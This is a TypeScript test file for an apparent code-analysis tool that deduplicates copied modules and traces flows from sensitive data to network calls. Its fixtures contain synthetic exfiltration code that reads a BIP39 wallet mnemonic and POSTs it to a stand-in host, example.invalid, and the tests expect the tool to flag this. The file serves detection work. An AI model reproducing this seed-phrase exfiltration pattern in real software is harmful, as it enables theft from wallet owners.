import { describe, expect, it } from 'vitest';
import { createResolve } from './program/resolveSpecifier.ts';
import { withoutCopies } from './program/withoutCopies.ts';
import { analyseSources, lowerSources } from './testing/analyseSources.ts';

/** Enough that a copy is looked for. */
const LONG = `const table = [${Array.from({ length: 300 }, (_, at) => at).join(', ')}];`;
const SEND = "exports.format = (x) => fetch('https://example.invalid', { method: 'POST', body: x });";
const THIEF = `${LONG} ${SEND} exports.main = (words) => { require('bip39').mnemonicToSeed(words); exports.format(words); };`;

/** The files that are left out. */
async function leftOut(files: Readonly<Record<string, string>>, apart: readonly string[] = []): Promise<string[]> {
  const modules = await lowerSources(files);
  const distinct = withoutCopies(modules, createResolve(modules, {}), (file) => apart.includes(file));
  return modules.filter((one) => !distinct.modules.includes(one)).map(({ file }) => file);
}

describe('a copy is left out', () => {
  it('where it is the same but for spaces and comments', async () => {
    expect(await leftOut({ 'a.js': LONG, 'b.js': `/* A note. */\n\n${LONG.replaceAll(', ', ',')}` })).toEqual(['b.js']);
  });
  it('with the copies that it imports', async () => {
    const whole = `${LONG} exports.x = require('./part.js').x;`;
    const files = { 'a/index.js': whole, 'a/part.js': THIEF, 'b/index.js': whole, 'b/part.js': THIEF };
    expect(await leftOut(files)).toEqual(['b/index.js', 'b/part.js']);
  });
  it('and what it does is told of the first, what it can do of each', async () => {
    const { flows, uses } = await analyseSources({ 'a.js': THIEF, 'b.js': `\n\n${THIEF}` });
    expect(flows.map(({ points }) => points[0]?.file)).toEqual(['a.js']);
    const [first = [], second = []] = ['a.js', 'b.js'].map((file) => uses.filter((one) => one.file === file));
    expect(first.map(({ capability }) => capability).toSorted()).toEqual(['key', 'network']);
    const moved = first.map((one) => ({
      ...one,
      file: 'b.js',
      span: { start: one.span.start + 2, end: one.span.end + 2 },
    }));
    expect(second).toEqual(moved);
  });
});

describe('a copy is kept', () => {
  it.each<[string, Readonly<Record<string, string>>, readonly string[]]>([
    ['that differs in a constant', { 'a.js': THIEF, 'b.js': THIEF.replace('example.invalid', 'other.invalid') }, []],
    ['that differs in a name', { 'a.js': THIEF, 'b.js': THIEF.replaceAll('words', 'phrase') }, []],
    ['that differs in a member', { 'a.js': THIEF, 'b.js': THIEF.replaceAll('format', 'encode') }, []],
    ['that differs in `new`', { 'a.js': `${LONG} new f();`, 'b.js': `${LONG} f();` }, []],
    ['that differs in a spread', { 'a.js': `${LONG} f(...x);`, 'b.js': `${LONG} f(x);` }, []],
    ['that differs in what it imports', { 'a.js': `${LONG} require('a');`, 'b.js': `${LONG} require('b');` }, []],
    ['that something else imports', { 'a.js': THIEF, 'b.js': THIEF, 'c.js': "require('./b.js');" }, []],
    [
      'whose imports mean other files',
      { 'a/a.js': `${LONG} require('./x');`, 'a/x.js': SEND, 'b/a.js': `${LONG} require('./x');`, 'b/x.js': '' },
      [],
    ],
    [
      'whose imports mean a file that the other does not have',
      { 'a/a.js': `${LONG} require('./x');`, 'b/a.js': `${LONG} require('./x');`, 'b/x.js': SEND },
      [],
    ],
    [
      'whose constants may be imports of other files',
      { 'a/a.js': `${LONG} load('./x');`, 'b/a.js': `${LONG} load('./x');`, 'b/x.js': SEND },
      [],
    ],
    ['that runs at install', { 'a.js': THIEF, 'b.js': THIEF }, ['b.js']],
    ['of one of the tests', { '__tests__/a.js': THIEF, 'b.js': THIEF }, []],
    ['in Python', { 'a.py': `table = [${'1, '.repeat(300)}]`, 'b.py': `table = [${'1, '.repeat(300)}]` }, []],
  ])('%s', async (_, files, apart) => {
    expect(await leftOut(files, apart)).toEqual([]);
  });
});

it('an import that only the running program knows means the module that stands for the copy', async () => {
  const files = {
    'a.js': `${LONG} ${SEND}`,
    'b.js': `${LONG} ${SEND}`,
    'c.js':
      "const name = './' + 'b'; const s = require(name); exports.main = (words) => { require('bip39').mnemonicToSeed(words); s.format(words); };",
  };
  expect(await leftOut(files)).toEqual(['b.js']);
  const { flows } = await analyseSources(files);
  expect(flows.map(({ source, sink }) => `${source} → ${sink}`)).toEqual(['key → network']);
});
